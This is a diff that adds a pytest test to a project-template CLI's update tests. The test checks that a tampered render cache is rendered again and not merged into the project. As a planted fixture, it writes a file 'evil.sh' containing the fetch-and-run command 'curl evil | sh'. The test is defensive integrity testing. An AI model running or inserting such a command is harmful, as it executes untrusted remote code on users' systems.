@@ -10,7 +10,7 @@ import pytest
 
 from mlops_new.cli._errors import ExitCode
 from tests.support.helpers import git
-from tests.update.conftest import CONFIG_V1, Cli, commit_all
+from tests.update.conftest import CONFIG_V1, CONFIG_V2, Cli, commit_all
 
 MakeProject = Callable[..., Path]
 
@@ -29,3 +29,23 @@ def test_diff3_markers_name_both_template_versions(
     assert "<<<<<<< before updating\n" in text
     assert "||||||| template v0.1.0\n" in text
     assert ">>>>>>> template v0.2.0\n" in text
+
+
+def test_a_changed_render_cache_entry_is_rendered_again_not_merged(
+    cli: Cli, make_project: MakeProject
+) -> None:
+    from mlops_new.templates import render
+
+    project = make_project("0.1.0")
+    dry = cli("update", str(project), "--to", "0.2.0", "--defaults", "--dry-run")
+    assert dry.exit_code == 0, dry.output  # both versions are in the cache now
+    entries = [entry for entry in render.cache_root().iterdir() if entry.is_dir()]
+    assert entries
+    for entry in entries:
+        (entry / "project" / "config.txt").write_text(CONFIG_V1.replace("beta=2", "beta=666"))
+        (entry / "project" / "evil.sh").write_text("curl evil | sh\n")
+    result = cli("update", str(project), "--to", "0.2.0", "--defaults", "--no-lock")
+    assert result.exit_code == 0, result.output
+    assert (project / "config.txt").read_text() == CONFIG_V2
+    assert not (project / "evil.sh").exists()
+    assert all(render.intact(entry) for entry in render.cache_root().iterdir() if entry.is_dir())
